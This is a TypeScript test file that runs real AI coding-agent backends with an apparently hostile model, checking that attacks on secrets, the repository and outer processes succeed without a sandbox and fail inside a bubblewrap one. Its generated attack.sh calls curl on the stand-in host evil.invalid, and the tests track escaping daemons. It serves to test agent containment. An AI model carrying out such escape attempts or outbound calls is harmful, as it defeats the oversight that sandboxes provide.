/** Real agents whose model makes them attack everything around them: it succeeds without a boundary, and fails inside. */
import { readFileSync, realpathSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import {
  ATTACKS,
  CALLS,
  describeVictim,
  findDaemons,
  OUTER_VARIABLES,
  plantCanaries,
  plantProgram,
  type Servers,
  secretSettings,
  startCanaryServers,
} from '../support/escape-victim.ts'
import { createRepositoryAt } from '../support/git-repository.ts'
import { DROVER, runAt, temporaryDirectoryForAll } from '../support/run-drover.ts'
import { hasSandbox, skipWithoutSandbox } from '../support/sandbox.ts'
import { createAgentSetup, MODELS } from './agent-setup.ts'
import { installed, useUpstream } from './real-agents.ts'

const EPERM = 1
const upstream = useUpstream()
const scratch = realpathSync(temporaryDirectoryForAll())
let servers: Servers | undefined
afterAll(() => servers?.close())

type Results = Readonly<Record<string, unknown>>

describe.each(installed)('the real $backend with a hostile model', ({ backend, path }) => {
  let outside: Results = {}
  let inside: Results = {}
  let boundary: unknown
  const seen = { before: '', after: '', daemons: { outside: [0], inside: [0] } }

  /** Lets the agent attack from a linked worktree. Returns what it got. */
  async function attack(name: 'open' | 'closed', flags: readonly string[]) {
    const around = servers ?? (await startCanaryServers())
    servers = around
    const setup = createAgentSetup(backend, path, upstream.port())
    const place = (each: string) => join(scratch, backend, name, each)
    const repository = createRepositoryAt(place('repo'))
    const home = realpathSync(setup.home)
    const places = { home, droverHome: join(home, '.drover'), outside: place('outside'), repository }
    const { root, where } = plantCanaries(places, around)
    const gitDirectory = join(where.common, 'worktrees/one')
    const daemon = `${backend}-${name}-${process.pid}`
    const facts = { ...around.places, ...where, root, gitDirectory, calls: plantProgram(root), daemon }
    writeFileSync(join(root, 'facts.json'), JSON.stringify(facts))
    const script = `'${process.execPath}' escape.mjs "$(cat facts.json)" > agent.out\ncurl -s https://evil.invalid\ntrue\n`
    writeFileSync(join(root, 'attack.sh'), script)
    const before = describeVictim(repository)
    const env = {
      ...setup.env('attack'),
      DROVER_SANDBOX_HOSTS: `127.0.0.1:${upstream.port()}`,
      DROVER_SANDBOX_ENV: 'FAKE_KEY',
      ...OUTER_VARIABLES,
      ...secretSettings(where.secret),
    }
    const words = ['prompt', 'say hello', '-b', backend, '-m', MODELS[backend], '--timeout', '100', '-o', 'json']
    const { stdout, stderr } = await runAt(root, [process.execPath, DROVER, ...words, ...flags], env)
    const daemons = findDaemons(daemon)
    for (const pid of daemons) process.kill(pid, 'SIGKILL')
    const results = JSON.parse(readFileSync(join(root, 'agent.out'), 'utf8')) as Results
    setup.remove()
    if (stdout === '') throw new Error(stderr)
    return { repository, results, before, daemons, boundary: JSON.parse(stdout).boundary as unknown }
  }

  beforeAll(async () => {
    if (!hasSandbox) return
    const open = await attack('open', ['--approval', 'none', '--no-sandbox'])
    const closed = await attack('closed', ['--approval', 'sandboxed', '--sandbox'])
    outside = open.results
    inside = closed.results
    boundary = closed.boundary
    Object.assign(seen, { before: closed.before, after: describeVictim(closed.repository) })
    seen.daemons = { outside: open.daemons, inside: closed.daemons }
  }, 300_000)
  beforeEach(skipWithoutSandbox)

  it.each(ATTACKS)('does not get: %s', (each) => {
    // One of the agents keeps such variables from its tools itself.
    if (each !== 'what is sent with telemetry') expect(outside[each]).toBe(true)
    expect(inside[each]).toEqual(expect.any(String))
  })

  it.each(Object.keys(CALLS))('does not get: %s', (call) => {
    expect([outside[call], inside[call]]).toEqual([0, EPERM])
  })

  it('is reported with the host that it was refused', () => {
    const refused = expect.arrayContaining([{ host: 'evil.invalid:443', reason: 'not listed', count: 1 }])
    expect(boundary).toMatchObject({ enforced_by: 'bubblewrap', refused })
  })

  it('leaves nothing of its repository changed, and no process', () => {
    expect(seen.before).toContain('refs/heads/drover/two')
    expect(seen.after).toBe(seen.before)
    expect([seen.daemons.outside.length, seen.daemons.inside]).toEqual([1, []])
  })
})
